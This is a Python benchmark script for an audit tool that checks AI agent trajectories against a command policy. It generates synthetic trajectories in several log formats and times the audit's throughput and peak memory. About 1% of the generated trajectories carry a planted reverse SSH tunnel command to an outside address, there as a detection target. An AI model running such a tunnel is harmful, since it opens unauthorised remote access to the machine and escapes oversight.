"""`corral audit` throughput in trajectories/s with 1 and 2 local workers, on a generated corpus
and on the real published trajectories (trajectories/s and steps/s), and the peak memory of
`corral audit` on a generated 150 MB `.jsonl.gz`.

The corpus is generated into a temporary directory (never committed): 24,000 trajectories in mixed
formats (OpenAI chat JSONL, Anthropic JSONL in gzip, ATIF and SWE-agent JSON files, Claude Code
sessions), ~10 tool steps each, 1 % carrying a planted tunnel. Commands are drawn from the ~18,800
distinct lines of the benign dev corpora, so each is analysed once cold and then hit in the cache,
as `ls` and `git status` are in real corpora; cold analysis is about half the work, which is why
workers hand each other what they analysed. At 12,000 trajectories the second worker's fixed
start-up (about half a second) hides most of its gain. The machine is shared: the load average is
reported with the figures.
"""

from __future__ import annotations

import gzip
import json
import os
import random
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from rich.progress import Progress

from corral.audit import checker
from corral.audit.auditor import AuditOptions
from corral.audit.runner import run_chunks, start_workers
from corral.audit.sources import discover, plan
from corral.policy import load_policy

CORPORA = Path(__file__).resolve().parents[1].parent.parent / "shared" / "corpora" / "benign"
TRAJECTORIES = 24000
STEPS = 10
PLANTED = "ssh -N -R 2222:localhost:22 tunnel@203.0.113.7"


def _commands() -> list[str]:
    for base in (CORPORA, Path("/work/shared/corpora/benign")):
        files = sorted(base.glob("*.plain.dev.txt"))
        if files:
            return [c for f in files for c in f.read_text().splitlines() if c.strip()]
    return [f"ls -la /workspace/dir{i} && grep -rn TODO src/mod{i}.py" for i in range(5000)]


def _chat(cmds: list[str], tid: str) -> dict[str, Any]:
    msgs: list[dict[str, Any]] = [{"role": "user", "content": "Fix the bug."}]
    for i, c in enumerate(cmds):
        msgs.append({"role": "assistant", "content": None, "tool_calls": [{"id": f"c{i}", "type": "function",
                     "function": {"name": "bash", "arguments": json.dumps({"command": c})}}]})  # fmt: skip
        msgs.append({"role": "tool", "tool_call_id": f"c{i}", "content": "ok"})
    return {"id": tid, "messages": msgs}


def _anthropic(cmds: list[str], tid: str) -> dict[str, Any]:
    msgs: list[dict[str, Any]] = [{"role": "user", "content": "Fix the bug."}]
    for i, c in enumerate(cmds):
        msgs.append({"role": "assistant", "content": [{"type": "tool_use", "id": f"t{i}", "name": "bash",
                                                       "input": {"command": c}}]})  # fmt: skip
        msgs.append({"role": "user", "content": [{"type": "tool_result", "tool_use_id": f"t{i}",
                                                  "content": "ok"}]})  # fmt: skip
    return {"id": tid, "messages": msgs}


def _atif(cmds: list[str], tid: str) -> dict[str, Any]:
    steps = [{"step_id": i + 1, "source": "agent", "message": "",
              "tool_calls": [{"tool_call_id": f"c{i}", "function_name": "bash", "arguments": {"command": c}}],
              "observation": {"results": [{"source_call_id": f"c{i}", "content": "ok"}]}}
             for i, c in enumerate(cmds)]  # fmt: skip
    return {"schema_version": "ATIF-v1.4", "session_id": tid, "agent": {"name": "bench", "version": "1"},
            "steps": steps}  # fmt: skip


def _swe(cmds: list[str], tid: str) -> dict[str, Any]:
    return {"trajectory": [{"action": c, "observation": "ok", "thought": "", "response": ""} for c in cmds],
            "history": [], "info": {"exit_status": "submitted", "instance_id": tid}}  # fmt: skip


def _claude(cmds: list[str], tid: str) -> list[dict[str, Any]]:
    lines = []
    for i, c in enumerate(cmds):
        lines.append({"type": "assistant", "sessionId": tid, "uuid": f"{tid}-{i}", "parentUuid": None,
                      "message": {"role": "assistant", "content": [{"type": "tool_use", "id": f"t{i}",
                                  "name": "Bash", "input": {"command": c}}]}})  # fmt: skip
    return lines


def generate(root: Path, n: int = TRAJECTORIES, seed: int = 7) -> int:
    rng = random.Random(seed)
    pool = _commands()
    jsonl: dict[str, list[str]] = {}
    for t in range(n):
        cmds = [rng.choice(pool) for _ in range(STEPS)]
        if rng.random() < 0.01:
            cmds[rng.randrange(STEPS)] = PLANTED
        tid, kind = f"traj-{t}", t % 5
        if kind == 0:
            jsonl.setdefault(f"chat-{t % 8}.jsonl", []).append(json.dumps(_chat(cmds, tid)))
        elif kind == 1:
            jsonl.setdefault(f"anthropic-{t % 4}.jsonl.gz", []).append(
                json.dumps(_anthropic(cmds, tid))
            )
        elif kind == 2:
            (root / "atif").mkdir(exist_ok=True)
            (root / "atif" / f"{tid}.json").write_text(json.dumps(_atif(cmds, tid)))
        elif kind == 3:
            (root / "swe").mkdir(exist_ok=True)
            (root / "swe" / f"{tid}.traj").write_text(json.dumps(_swe(cmds, tid)))
        else:
            (root / "claude").mkdir(exist_ok=True)
            body = "".join(json.dumps(x) + "\n" for x in _claude(cmds, tid))
            (root / "claude" / f"{tid}.jsonl").write_text(body)
    for name, lines in jsonl.items():
        data = ("\n".join(lines) + "\n").encode()
        (root / name).write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
    return n


def _measure(root: Path, workers: int) -> dict[str, Any]:
    checker.reset()
    options = AuditOptions(load_policy("rl-strict"))
    start = time.perf_counter()  # as `corral audit` spends it: start workers, plan, audit
    start_workers(workers)
    chunks = plan(discover([root]))
    trajectories = denied = malformed = 0
    for result in run_chunks(chunks, options, workers=workers):
        trajectories += len(result["results"])
        denied += sum(r["verdict"] == "deny" for r in result["results"])
        malformed += len(result["malformed"])
    elapsed = time.perf_counter() - start
    return {"trajectories": trajectories, "denied": denied, "malformed": malformed,
            "seconds": round(elapsed, 3), "trajectories_per_s": round(trajectories / elapsed, 1)}  # fmt: skip


REAL = [Path(__file__).resolve().parents[1].parent / "shared" / "corpora" / "trajectories",
        Path("/work/shared/corpora/trajectories")]  # fmt: skip
BIG_GZ_BYTES = 150 * 1024 * 1024


def _measure_real(root: Path, workers: int) -> dict[str, Any]:
    """Throughput on real runs: files as published (gzip JSON documents and JSONL)."""
    checker.reset()
    options = AuditOptions(load_policy("rl-strict"))
    start = time.perf_counter()
    start_workers(workers)
    chunks = plan(discover([root]))
    trajectories = steps = commands = 0
    for result in run_chunks(chunks, options, workers=workers):
        trajectories += len(result["results"])
        steps += sum(r["steps"] for r in result["results"])
        commands += sum(r["commands"] for r in result["results"])
    elapsed = time.perf_counter() - start
    return {"trajectories": trajectories, "steps": steps, "commands": commands,
            "seconds": round(elapsed, 3), "trajectories_per_s": round(trajectories / elapsed, 1),
            "steps_per_s": round(steps / elapsed, 1)}  # fmt: skip


def big_gzip(path: Path, target: int = BIG_GZ_BYTES, seed: int = 11) -> dict[str, int]:
    """A `.jsonl.gz` of about `target` compressed bytes: chat trajectories whose tool outputs are
    random hex (so gzip cannot shrink them much, as real logs of builds and tests barely shrink)."""
    rng = random.Random(seed)
    pool = _commands()
    n = raw = 0
    with gzip.open(path, "wb", compresslevel=1) as out:
        while path.stat().st_size < target:
            batch = []
            for _ in range(200):
                cmds = [rng.choice(pool) for _ in range(STEPS)]
                doc = _chat(cmds, f"big-{n}")
                for m in doc["messages"]:
                    if m["role"] == "tool":
                        m["content"] = rng.randbytes(1500).hex()
                batch.append(json.dumps(doc))
                n += 1
            data = ("\n".join(batch) + "\n").encode()
            raw += len(data)
            out.write(data)
            out.flush()
    return {"trajectories": n, "compressed_bytes": path.stat().st_size, "bytes": raw}


def _peak_memory(path: Path, workers: int) -> dict[str, Any]:
    """`corral audit FILE` in a child process; its own peak RSS from wait4 (workers=1 keeps the
    whole audit in that one process)."""
    cmd = [sys.executable, "-c", "from corral.cli.main import main; main()", "audit", str(path),
           "--workers", str(workers)]  # fmt: skip
    start = time.perf_counter()
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    return {"exit_status": proc.returncode, "seconds": round(time.perf_counter() - start, 1),
            "peak_rss_mb": round(usage.ru_maxrss / 1024, 1)}  # fmt: skip


def run(progress: Progress) -> dict[str, Any]:
    real = next((p for p in REAL if p.is_dir()), None)
    task = progress.add_task("audit: generated corpus, real runs, 150 MB gzip", total=6)
    with tempfile.TemporaryDirectory(prefix="corral-bench-audit-") as tmp:
        root = Path(tmp)
        n = generate(root)
        progress.advance(task)
        one = _measure(root, 1)
        progress.advance(task)
        two = _measure(root, 2)
        progress.advance(task)
    real_runs: dict[str, Any] = {"skipped": "the shared trajectories are not beside the checkout"}
    if real is not None:
        real_runs = {"workers_1": _measure_real(real, 1), "workers_2": _measure_real(real, 2)}
    progress.advance(task, 2)
    with tempfile.TemporaryDirectory(prefix="corral-bench-audit-big-") as tmp:
        big = Path(tmp) / "big.jsonl.gz"
        made = big_gzip(big)
        memory = {"file": made, "workers_1": _peak_memory(big, 1)}
        progress.advance(task)
    return {
        "real_trajectories": real_runs,
        "big_gzip_peak_memory": memory,
        "corpus": {"trajectories": n, "steps_per_trajectory": STEPS,
                   "formats": ["openai_chat", "anthropic(gz)", "atif", "swe_agent", "claude_code"]},
        "workers_1": one,
        "workers_2": two,
        "speedup_2_workers": round(two["trajectories_per_s"] / one["trajectories_per_s"], 2),
        "load_average_1min": round(os.getloadavg()[0], 2),
        "target": "1M trajectories auditable: >= 1,000 trajectories/s per core (10 steps each)",
    }  # fmt: skip
